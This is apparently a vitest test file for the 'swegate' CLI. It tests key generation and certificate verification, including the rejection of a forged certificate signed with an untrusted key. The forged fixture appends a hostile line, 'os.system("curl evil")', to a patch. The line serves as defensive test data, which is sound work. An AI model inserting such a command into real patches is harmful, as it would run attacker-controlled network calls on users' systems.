import { generateKeyPairSync } from "node:crypto";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { canonicalize } from "../../certificate/canonicalize.js";
import { sha256, signCertificate } from "../../certificate/certificate.js";
import { keyFingerprint } from "../../certificate/key-fingerprint.js";
import { loadPrivateKey } from "../../certificate/keys.js";
import { sampleDocument } from "../../certificate/test-support/sample-document.js";
import { runCli } from "../test-support/run-cli.js";

const scratch = mkdtempSync(join(tmpdir(), "swegate-verify-cli-"));
afterAll(() => rm(scratch, { recursive: true, force: true }));
/** A config folder holding the local key pair, and one holding none. */
const local = { XDG_CONFIG_HOME: join(scratch, "config") };
const keyless = { XDG_CONFIG_HOME: join(scratch, "empty-config") };
const keyDir = join(scratch, "config", "swegate", "keys");

const write = (name: string, text: string) => {
  const path = join(scratch, name);
  writeFileSync(path, text);
  return path;
};
/** The detail line verify prints for one check. */
const line = (stdout: string, check: string) =>
  stdout.split("\n").find((text) => text.slice(5).startsWith(`${check}:`));

describe("swegate keys init and verify", () => {
  const init = runCli(["keys", "init"], { env: local });
  const publicKeyFile = join(keyDir, "swegate-ed25519.pub");
  const signer = loadPrivateKey(join(keyDir, "swegate-ed25519.key"));
  if (!signer) throw new Error(`keys init made no key: ${init.stderr}`);
  const genuine = write("genuine.json", `${canonicalize(signCertificate(sampleDocument, signer))}\n`);
  // The forger changes the patch, fixes its hash, and signs with a key of their own.
  const forger = generateKeyPairSync("ed25519");
  const forgedPatch = `${sampleDocument.patch}+import os; os.system("curl evil")\n`;
  const forged = write(
    "forged.json",
    `${canonicalize(signCertificate({ ...sampleDocument, patch: forgedPatch, patch_sha256: sha256(forgedPatch) }, forger.privateKey))}\n`,
  );
  const forgerPub = write("forger.pub", forger.publicKey.export({ type: "spki", format: "pem" }).toString());

  it("keys init prints the public key's fingerprint", () => {
    expect(init.code, init.stderr).toBe(0);
    const fingerprint = keyFingerprint(signer);
    expect(init.stdout).toContain(`fingerprint: ${fingerprint}`);
    expect(fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });

  it("passes the genuine certificate with the local key, with --pubkey, and with --trusted-keys", () => {
    const withLocal = runCli(["verify", genuine], { env: local });
    expect(withLocal.code, withLocal.stdout + withLocal.stderr).toBe(0);
    expect(line(withLocal.stdout, "trusted_signer")).toBe(
      `ok   trusted_signer: ${keyFingerprint(signer)} is trusted (local key ${publicKeyFile})`,
    );
    // Explicit keys need no local key pair.
    const withPubkey = runCli(["verify", genuine, "--pubkey", forgerPub, "--pubkey", publicKeyFile], {
      env: keyless,
    });
    expect(withPubkey.code, withPubkey.stdout + withPubkey.stderr).toBe(0);
    const bundle = write(
      "trusted.pem",
      `# the forger, trusted by mistake elsewhere\n${readFileSync(forgerPub, "utf8")}\n# us\n${readFileSync(publicKeyFile, "utf8")}`,
    );
    const withBundle = runCli(["verify", genuine, "--trusted-keys", bundle, "--json"], { env: keyless });
    expect(withBundle.code, withBundle.stderr).toBe(0);
    expect(JSON.parse(withBundle.stdout)).toMatchObject({ ok: true });
  });

  it("fails a certificate re-signed with another key without --pubkey, naming that key's fingerprint", () => {
    const result = runCli(["verify", forged], { env: local });
    expect(result.code).toBe(1);
    // The forger's signature is valid for the key it embeds; the embedded key is simply not trusted.
    expect(line(result.stdout, "signature")).toMatch(/^ok {3}signature:/);
    expect(line(result.stdout, "trusted_signer")).toBe(
      `FAIL trusted_signer: ${keyFingerprint(forger.publicKey)} is not a trusted key (pass its public key with --pubkey or --trusted-keys if you trust its owner)`,
    );
    expect(result.stdout.trim().split("\n").at(-1)).toBe("NOT verified");
    // Given keys replace the local one: the genuine certificate fails against the forger's key alone.
    expect(runCli(["verify", genuine, "--pubkey", forgerPub], { env: local }).code).toBe(1);
  });

  it("with no trusted key at all, says in one line what to pass (exit 2)", () => {
    const result = runCli(["verify", genuine], { env: keyless });
    expect(result.code).toBe(2);
    expect(result.stdout).toBe("");
    expect(result.stderr.trim().split("\n")).toHaveLength(1);
    expect(result.stderr).toContain("no trusted public key: none given, and no local key at");
    expect(result.stderr).toContain("--pubkey FILE or --trusted-keys FILE");
    const empty = write("nobody.pem", "# nobody is trusted yet\n");
    const bad = runCli(["verify", genuine, "--trusted-keys", empty], { env: local });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain(`--trusted-keys=${empty}: holds no PEM public key`);
  });
});
